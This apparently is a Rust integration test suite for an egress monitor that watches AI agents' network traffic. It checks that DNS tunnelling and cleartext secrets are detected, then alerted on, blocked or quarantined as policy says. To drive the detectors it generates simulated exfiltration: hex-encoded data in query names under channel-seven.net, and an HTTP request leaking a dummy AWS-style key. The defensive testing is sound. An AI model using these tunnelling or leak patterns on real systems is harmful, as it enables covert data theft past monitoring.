//! Detectors on live traffic: what the policy allows and carries data is found, told, and closed as the policy says.

use std::{net::SocketAddr, process::Command};

use agentnet_common::verdict::DNS_PORT;
use agentnet_tests::{
    eventually::{DEADLINE, eventually},
    lab::{
        Lab,
        agent::Agent,
        child::{agentnet, finish, join_cgroup, probe_binary},
        net::{ALLOWED_PORT, Family},
        policy::Policy,
        resolver::{A, Resolver, query},
        running::Running,
        server::Transport,
    },
    probe::script::{Came, Step},
};
use anyhow::{Context as _, Result, ensure};
use rstest::rstest;
use serde_json::Value;

/// A domain nobody visits, of which everything is allowed.
const TUNNEL: &str = "channel-seven.net";
/// Its names on the wire end in this.
const TUNNEL_WIRE: &[u8] = b"\x0dchannel-seven\x03net";
/// A name of every day, and a piece of it on the wire.
const TWIN: &str = "api.example.com";
const TWIN_WIRE: &[u8] = b"\x03api\x07example\x03com";

/// A policy with the names, and what is done about findings of a kind.
fn policy(resolver: SocketAddr, mode: &str, detect: &str) -> String {
    format!(
        "version = 1\nname = \"lab\"\nmode = {mode:?}\n[dns]\nresolvers = [\"{}\"]\nsearch = []\n\
         [[egress.allow]]\ndomain = \"*.{TUNNEL}\"\n[[egress.allow]]\ndomain = {TWIN:?}\nports = [{ALLOWED_PORT}]\n{detect}",
        resolver.ip()
    )
}

/// Runs a script of the probe as the agent that runs.
fn script(lab: &Lab, running: &Running<'_>, steps: &[Step]) -> Result<Vec<Came>> {
    let file = tempfile::NamedTempFile::new()?;
    serde_json::to_writer(&file, steps)?;
    let mut command = Command::new(probe_binary()?);
    command.arg("script").arg(file.path());
    lab.agent.attach(&mut command);
    join_cgroup(&mut command, &running.cgroup)?;
    let finished = finish(command, None)?;
    ensure!(finished.status.success(), "{finished:?}");
    finished.stdout.lines().map(|line| Ok(serde_json::from_str(line)?)).collect()
}

/// What a tunnel asks for: data in hexadecimal, never twice the same.
fn tunnelled(number: u64) -> String {
    let word = |seed: u64| (number + seed).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    format!("{:016x}{:016x}{:08x}.{TUNNEL}", word(1), word(1 << 20), number)
}

fn ask(resolver: SocketAddr, name: &str) -> Step {
    Step::Ask { to: resolver, message: query(7, name, A) }
}

/// The alerts of a kind that the agent's log has.
fn alerts(agent: &Agent<'_>, kind: &str) -> Result<Vec<Value>> {
    Ok(agent
        .log()?
        .into_iter()
        .filter(|line| line["kind"] == kind && line["evidence"]["detector"].is_string())
        .collect())
}

/// Sends queries of the tunnel until an alert about it says `action`; that alert.
fn tunnel_until(
    lab: &Lab,
    (agent, running): (&Agent<'_>, &Running<'_>),
    resolver: SocketAddr,
    action: &str,
) -> Result<Value> {
    let mut number = 0;
    eventually(4 * DEADLINE, "an alert about the tunnel", || {
        let seen = alerts(agent, "dns_tunnel").map_err(|error| error.to_string())?;
        if let Some(alert) = seen.iter().find(|alert| alert["action"] == action) {
            return Ok(alert.clone());
        }
        let steps: Vec<Step> = (number..number + 8).map(|number| ask(resolver, &tunnelled(number))).collect();
        number += 8;
        script(lab, running, &steps).map_err(|error| error.to_string())?;
        Err(format!("{number} queries, {seen:?}"))
    })
}

struct Scene {
    lab: Lab,
    resolver: Resolver,
    at: SocketAddr,
}

impl Scene {
    fn new(family: Family) -> Result<Self> {
        let lab = Lab::new()?;
        let at = SocketAddr::from((family.allowed(), DNS_PORT));
        let resolver = Resolver::of_zone(&lab.server, &[at], &[(TWIN, vec![Family::V4.named(1)])])?;
        Ok(Self { lab, resolver, at })
    }

    /// The twin is asked for, and answered.
    fn ensure_twin(&self, running: &Running<'_>) -> Result<()> {
        let before = self.resolver.asked_for(TWIN_WIRE);
        let came = script(&self.lab, running, &[ask(self.at, TWIN)])?;
        ensure!(came.iter().all(Came::is_ok), "{came:?}");
        ensure!(self.resolver.asked_for(TWIN_WIRE) == before + 1, "the twin did not arrive");
        Ok(())
    }

    /// Whether queries of the tunnel arrive at the resolver.
    fn arrives(&self, running: &Running<'_>) -> Result<bool> {
        let before = self.resolver.asked_for(TUNNEL_WIRE);
        let steps: Vec<Step> = (0..4).map(|number| ask(self.at, &tunnelled(1_000_000 + number))).collect();
        let came = script(&self.lab, running, &steps)?;
        let all_refused = came.iter().all(|came| came.step == "sendto" && came.errno == libc::EPERM);
        let arrived = self.resolver.asked_for(TUNNEL_WIRE) - before;
        ensure!(all_refused == (arrived == 0), "{arrived} arrived, and the agent was told {came:?}");
        Ok(arrived > 0)
    }
}

/// A tunnel through names that are allowed is told and blocked while the agent runs, by its name alone; a person takes
/// that back, and it stays so.
#[rstest]
fn a_tunnel_is_found_and_its_name_blocked(#[values(Family::V4, Family::V6)] family: Family) -> Result<()> {
    let scene = Scene::new(family)?;
    let detect = "[detect.dns_tunnel]\naction = \"block\"\n";
    let agent = Agent::with_text(&scene.lab, &policy(scene.at, "enforce", detect))?;
    let running = agent.hold()?;
    scene.ensure_twin(&running)?;

    let alert = tunnel_until(&scene.lab, (&agent, &running), scene.at, "blocked")?;
    ensure!(alert["destination"]["domain"] == TUNNEL, "{alert:#}");
    ensure!(alert["evidence"]["bytes_before_block"].as_u64().is_some_and(|bytes| bytes > 0), "{alert:#}");
    ensure!(alert["process"]["comm"] == "probe", "{alert:#}");
    ensure!(!scene.arrives(&running)?, "it goes on");
    scene.ensure_twin(&running)?;
    let refused = |line: &Value| {
        line["kind"] == "dns_denied"
            && line["reason"]
                .as_str()
                .is_some_and(|text| text.contains("is blocked with every name below it"))
    };
    eventually(DEADLINE, "an alert about the refused query", || {
        let log = agent.log().map_err(|error| error.to_string())?;
        if log.iter().any(refused) { Ok(()) } else { Err(format!("{log:#?}")) }
    })?;

    let status = agentnet(None, &["status", "--json"])?;
    let own =
        status.stdout.lines().find(|line| line.contains(&agent.name)).context("status has the agent")?;
    let own: Value = serde_json::from_str(own)?;
    let act = &own["engine"]["acts"][0];
    ensure!(
        act["act"] == "block_name" && act["name"] == TUNNEL && act["detection"] == "dns_tunnel",
        "{own:#}"
    );
    ensure!(act["until"].is_string(), "it ends by itself: {own:#}");

    let undone = agentnet(None, &["unblock", TUNNEL, "--agent", &agent.name])?;
    ensure!(undone.status.success(), "{undone:?}");
    ensure!(scene.arrives(&running)?, "a person has taken it back");
    // What was taken back is not done again, though it is found again.
    ensure!(scene.arrives(&running)?, "it was blocked again");
    scene.ensure_twin(&running)?;
    ensure!(running.finish()?.status.success());
    Ok(())
}

/// In audit mode the same is told, and nothing is blocked.
#[test]
fn a_tunnel_is_only_told_in_audit_mode() -> Result<()> {
    let scene = Scene::new(Family::V4)?;
    let detect = "[detect.dns_tunnel]\naction = \"block\"\n";
    let agent = Agent::with_text(&scene.lab, &policy(scene.at, "audit", detect))?;
    let running = agent.hold()?;
    let alert = tunnel_until(&scene.lab, (&agent, &running), scene.at, "alerted")?;
    ensure!(
        alert["reason"].as_str().is_some_and(|text| text.contains("the policy only audits")),
        "{alert:#}"
    );
    ensure!(scene.arrives(&running)?, "it is blocked though the policy audits");
    scene.ensure_twin(&running)?;
    ensure!(running.finish()?.status.success());
    Ok(())
}

/// A token of Amazon's form, which is nobody's. In pieces, or those who look for such things find it here.
fn token() -> String {
    ["AKIA", "Y3SDKQ7Z", "P2VNLM4T"].concat()
}

/// A secret in the clear is told, and what the policy says is done: the address is closed, or the agent.
#[rstest]
#[case("alert", "alerted", true, true)]
#[case("block", "blocked", false, true)]
#[case("quarantine", "quarantined", false, false)]
fn a_secret_in_a_request_is_found(
    #[values(Family::V4, Family::V6)] family: Family,
    #[case] setting: &str,
    #[case] action: &str,
    #[case] same_address: bool,
    #[case] other_address: bool,
) -> Result<()> {
    let lab = Lab::new()?;
    let detect = format!("[detect.secret]\naction = {setting:?}\n");
    let other = family.denied_endpoint();
    let policy =
        Policy::standard().allow(&other.ip().to_string(), &[other.port()], &["tcp"]).text() + &detect;
    let agent = Agent::with_text(&lab, &policy)?;
    let running = agent.hold()?;
    let to = family.allowed_endpoint();
    let say = |to, text: &str| Step::Connect { to, text: text.to_owned() };
    let plain = "GET /index.html HTTP/1.1\r\nHost: docs.example.com\r\n\r\n";
    let came = script(&lab, &running, &[say(to, plain), say(other, plain)])?;
    ensure!(came.iter().all(Came::is_ok), "{came:?}");
    ensure!(alerts(&agent, "secret")?.is_empty(), "nothing was said yet");

    let leak = format!("GET /?aws_access_key_id={} HTTP/1.1\r\nHost: docs.example.com\r\n\r\n", token());
    script(&lab, &running, &[say(to, &leak)])?;
    let alert = eventually(DEADLINE, "an alert about the secret", || {
        let seen = alerts(&agent, "secret").map_err(|error| error.to_string())?;
        seen.first().cloned().ok_or_else(|| "none".to_owned())
    })?;
    ensure!(alert["action"] == action, "{alert:#}");
    ensure!(alert["destination"]["ip"] == to.ip().to_string(), "{alert:#}");
    ensure!(!alert.to_string().contains(&token()), "the alert has the secret: {alert:#}");

    for (to, passes) in [(to, same_address), (other, other_address)] {
        let before = lab.servers.tally(to, Transport::Tcp);
        let came = script(&lab, &running, &[say(to, plain)])?;
        ensure!(came[0].is_ok() == passes, "{to}: {came:?}");
        let arrived = lab.servers.tally(to, Transport::Tcp).bytes - before.bytes;
        ensure!((arrived > 0) == passes, "{arrived} bytes arrived at {to}");
    }
    ensure!(running.finish()?.status.success());
    Ok(())
}
